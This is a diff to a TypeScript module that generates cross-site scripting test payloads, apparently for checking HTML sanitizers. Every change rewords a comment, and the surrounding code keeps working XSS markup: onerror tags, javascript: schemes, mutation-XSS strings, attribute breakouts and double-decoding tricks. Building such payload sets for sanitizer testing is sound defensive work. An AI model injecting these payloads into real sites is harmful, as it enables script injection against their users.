@@ -1,6 +1,6 @@
 /**
- * Markup that runs script in a browser that trusts it. Every payload calls `xss(n)` with its own number n,
- * so a hit names the payload. Built from families rather than listed, so that each combination is covered.
+ * Markup that runs script in a browser that trusts it. Every payload calls `xss(n)` with its own number, so a hit names
+ * its payload. Built from families, so that every combination is covered.
  */
 export type XssPayload = { id: number; family: string; html: string };
 
@@ -10,7 +10,7 @@ const entity = (text: string) => [...text].map((character) => `&#${character.cod
 const hexEntity = (text: string) =>
   [...text].map((character) => `&#x${character.codePointAt(0)?.toString(16).padStart(7, "0")}`).join("");
 
-/** Elements that fire an event by themselves once they are in a page: [opening up to the event, event, the rest]. */
+/** Elements that fire an event once they are in a page: [markup before the event, event, markup after it]. */
 const SELF_FIRING: [string, string, string][] = [
   ["<img src=x", "onerror", ">"],
   ["<img src=x:x", "onerror", ">"],
@@ -99,7 +99,7 @@ const SCRIPTS: string[] = [
   "<template><script>X</script></template><script>X</script>",
 ];
 
-/** Links that run on a click, and elements that follow an address by themselves. */
+/** Links that run script on a click, and elements that open an address by themselves. */
 const ADDRESSES: string[] = [
   "<a href=ADDRESS>a</a>",
   "<a href='ADDRESS'>a</a>",
@@ -128,7 +128,7 @@ const SCHEMES: ((call: string) => string)[] = [
   (call) => `javascript://%0a${call}`,
 ];
 
-/** Markup that is harmless as written and turns when a sanitizer's output is parsed a second time. */
+/** Harmless markup that becomes script when a sanitizer's output is parsed again. */
 const MUTATING: string[] = [
   "<noscript><p title='</noscript><img src=x onerror=X>'></noscript>",
   "<svg></p><style><a id='</style><img src=x onerror=X>'>",
@@ -176,7 +176,7 @@ const MUTATING: string[] = [
   "<listing>&lt;img src=x onerror=X&gt;</listing><img src=x onerror=X>",
 ];
 
-/** Ways out of an attribute, a script, a style or a comment that a template may have put the text into. */
+/** Text that ends the attribute, script, style or comment into which a template put it. */
 const BREAKOUTS: string[] = [
   '"><img src=x onerror=X>',
   "'><img src=x onerror=X>",
@@ -196,14 +196,14 @@ const BREAKOUTS: string[] = [
   "<!--<script>--></script><script>X</script>",
 ];
 
-/** Harmless until a repair of text cuts from an address to behind its closing quote. */
+/** Harmless until a text filter cuts an address together with its closing quote. */
 const CUT_OUT: string[] = [
   '<a href="mailto:a@b?Please mention the wo&#114;d **q** and tag A">y. "onfocus=X autofocus tabindex=1 x="</a>',
   '<a href="https://a.example/?Please mention the word **q**">y. "onfocus=X autofocus tabindex=1 x="</a>',
   '<a href="https://a.example/?This is a beta feature to avoid spam">y. "onfocus=X autofocus tabindex=1 x="</a>',
 ];
 
-/** Text that is code only to something that decodes or evaluates once too often. */
+/** Text that becomes code if something decodes or evaluates it once too often. */
 const TWICE_DECODED: string[] = [
   "&lt;img src=x onerror=X&gt;",
   "&lt;script&gt;X&lt;/script&gt;",
